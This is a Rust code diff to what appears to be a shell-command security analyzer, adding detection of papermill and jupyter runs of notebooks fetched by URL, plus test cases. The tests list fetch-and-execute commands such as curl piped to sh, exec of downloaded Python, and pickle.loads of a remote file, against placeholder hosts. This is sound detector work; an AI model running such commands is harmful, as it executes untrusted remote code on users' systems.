@@ -209,6 +209,33 @@ fn go_run_written(a: &Analyzer, inv: &Inv) -> Option<(String, String)> {
         })
 }
 
+/// Notebook runners given a notebook by URL run its cells, downloaded code, as `deno run URL`
+/// does: papermill (`papermill INPUT OUTPUT`, papermill docs: the input may be an HTTP(S) or
+/// cloud URL), `jupyter nbconvert --execute URL`, `jupyter execute URL`.
+pub(super) fn notebook_from_url(a: &mut Analyzer, name: &str, inv: &Inv) {
+    let rest = inv.rest();
+    let runs = match name {
+        "papermill" => true,
+        "jupyter" => match rest.first().map(|w| w.text.as_str()) {
+            Some("execute") => true,
+            Some("nbconvert") => rest.iter().any(|w| w.text == "--execute"),
+            _ => false,
+        },
+        _ => false,
+    };
+    if !runs {
+        return;
+    }
+    let url = rest
+        .iter()
+        .map(|w| w.text.as_str())
+        .find(|w| w.starts_with("https://") || w.starts_with("http://"));
+    if let Some(u) = url {
+        a.fetch(u, &inv.evidence);
+        a.remote_exec("remote_script", name, Some(u.to_string()), &inv.evidence);
+    }
+}
+
 /// Runs a script file named on the command line: exec fact, and its content when known.
 fn script_file(
     a: &mut Analyzer,
@@ -988,6 +1015,8 @@ mod tests {
             "Rscript -e 'eval(parse(text = readLines(\"https://r.example.org/fix.R\")))'",
             "julia -e 'include(download(\"https://j.example.org/a.jl\"))'",
             "cmake -P <(curl -s https://c.example.org/bootstrap.cmake)",
+            "papermill https://n.example.org/n.ipynb out.ipynb",
+            "jupyter nbconvert --execute --to notebook https://n.example.org/n.ipynb",
             "jshell <<< 'Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"curl -s http://203.0.113.4/j | sh\"})'",
             "python3 -c \"import pickle,urllib.request;pickle.loads(urllib.request.urlopen('https://m.example.org/p.pkl').read())\"",
             "python manage.py shell <<< \"import urllib.request; exec(urllib.request.urlopen('https://x.example.org/p.py').read())\"",
@@ -999,6 +1028,8 @@ mod tests {
             "Rscript -e 'source(\"analysis.R\")'",
             "Rscript -e 'install.packages(\"dplyr\", repos = \"https://cloud.r-project.org\")'",
             "cmake -P scripts/gen.cmake",
+            "papermill nb/train.ipynb out.ipynb",
+            "jupyter nbconvert --to html https://n.example.org/n.ipynb",
             "python3 -c \"import pickle; d = pickle.load(open('x.pkl', 'rb'))\"",
             "python manage.py shell <<< 'from app.models import User; print(User.objects.count())'",
         ] {
